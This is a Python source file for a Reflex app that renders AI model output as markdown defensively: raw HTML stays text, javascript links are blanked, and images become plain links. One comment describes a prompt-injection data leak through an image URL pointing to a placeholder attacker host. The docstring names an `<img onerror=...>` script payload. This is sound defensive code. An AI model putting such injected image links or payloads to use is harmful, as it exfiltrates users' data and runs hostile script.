"""Model output as markdown, safely: raw HTML is shown as text, never rendered."""

from __future__ import annotations

import json
from typing import Any

import reflex as rx

# Highlighting themes with stronger token colours: Reflex's default one-light fails WCAG AA
# contrast on a plain Python function (axe, tests/e2e/test_a11y.py). Light is Prism's "vs"
# with its too-pale tokens (numbers, constants, attributes, class names: 2.3 to 4.0 on white)
# darkened to at least 4.5:1; dark is "a11y-dark", which passes as it is.
_DARKER_TOKENS = {
    "#0b7471": ("url", "symbol", "number", "boolean", "variable", "constant", "inserted"),
    "#9a5b00": ("important",),
    "#1f6f8b": ("class-name", ".language-json .token.property"),
    "#c40000": ("attr-name", "property", "regex", "entity"),
}
_VS_DARKER = {key: {"color": color} for color, keys in _DARKER_TOKENS.items() for key in keys}
_VS = rx.code_block.themes.vs
_LIGHT_THEME = rx.Var(
    _js_expr=f"({{...{_VS!s}, ...{json.dumps(_VS_DARKER)}}})",
    _var_data=_VS._get_all_var_data(),
)
CODE_THEME = rx.color_mode_cond(light=_LIGHT_THEME, dark=rx.code_block.themes.a11y_dark)


def _code_block(value: Any, **props: Any) -> rx.Component:
    """A fenced block: a header with its language and a Copy button, then the highlighted
    code. ``language`` is the fence's info string (react-markdown's ``language-*`` class),
    empty when the fence names none."""
    language = props.get("language", "")
    label = (
        rx.cond(language != "", language, "text")
        if isinstance(language, rx.Var)
        else (language or "text")
    )
    header = rx.hstack(
        rx.text(label, size="1", font_family="var(--code-font-family)", class_name="code-lang"),
        rx.button(
            rx.icon("copy", size=14),
            "Copy",
            aria_label="Copy code",
            on_click=rx.set_clipboard(value),
            type="button",
            size="1",
            variant="ghost",
            color_scheme="gray",
        ),
        justify="between",
        align="center",
        padding="0.25em 0.75em",
        background=rx.color("gray", 3),
        border_bottom=f"1px solid {rx.color('gray', 5)}",
    )
    return rx.box(
        header,
        rx.code_block(
            value,
            wrap_long_lines=True,
            margin="0",
            border_radius="0",
            # Long unbroken text wraps too, so the block never scrolls sideways (a scroller
            # would need to be focusable).
            code_tag_props={"style": {"whiteSpace": "pre-wrap", "overflowWrap": "anywhere"}},
            **{"theme": CODE_THEME, **props},
        ),
        class_name="code-block",
        role="group",
        aria_label=rx.cond(language != "", f"{language} code", "code")
        if isinstance(language, rx.Var)
        else f"{language or 'text'} code",
        margin_y="0.75em",
        border=f"1px solid {rx.color('gray', 5)}",
        border_radius="8px",
        overflow="hidden",
    )


# An image in model output would load as soon as it renders, even mid-stream, so a prompt
# injection could leak data through its URL (``![](https://attacker/?d=...)``). It renders
# as a link instead: the reader sees where it points and nothing is fetched. (The CSP's
# ``img-src 'self'`` from app/guards/origins.py stops any that slip through.) react-markdown
# hands the map function ``{node, children, ...props}``, so ``props.src``/``props.alt`` are
# the image's; its default URL transform has already blanked ``javascript:`` and ``data:``.
# The live reply (assets/live_reply.jsx) applies the same rule: IMAGE_AS_LINK_JSX.
_IMG_SRC = rx.Var(_js_expr="props.src", _var_type=str)
_IMG_LABEL = rx.Var(
    _js_expr="('Image: ' + (props.alt || props.src || 'no address'))", _var_type=str
)
IMAGE_AS_LINK_JSX = (
    'img: ({ node, src, alt }) => <a href={src} target="_blank" '
    'rel="noopener noreferrer nofollow" className="md-image-link">'
    '{"Image: " + (alt || src || "no address")}</a>'
)


def _image_as_link(*children: Any, **props: Any) -> rx.Component:
    return rx.el.a(
        _IMG_LABEL,
        href=_IMG_SRC,
        target="_blank",
        rel="noopener noreferrer nofollow",
        class_name="md-image-link",
    )


def safe_markdown(content: rx.Var[str] | str, **props: Any) -> rx.Component:
    """GitHub-flavoured markdown (tables, task lists, strikethrough, autolinks) with
    highlighted code blocks labelled with their language and a Copy button.

    ``use_raw=False`` drops rehype-raw, so ``<img onerror=...>`` in a reply stays text;
    react-markdown's default URL transform blanks ``javascript:`` links; images render as
    links (``_image_as_link``), so nothing remote loads.
    """
    return rx.markdown(
        content,
        use_raw=False,
        use_katex=False,
        use_math=False,
        component_map={"pre": _code_block, "img": _image_as_link},
        **props,
    )
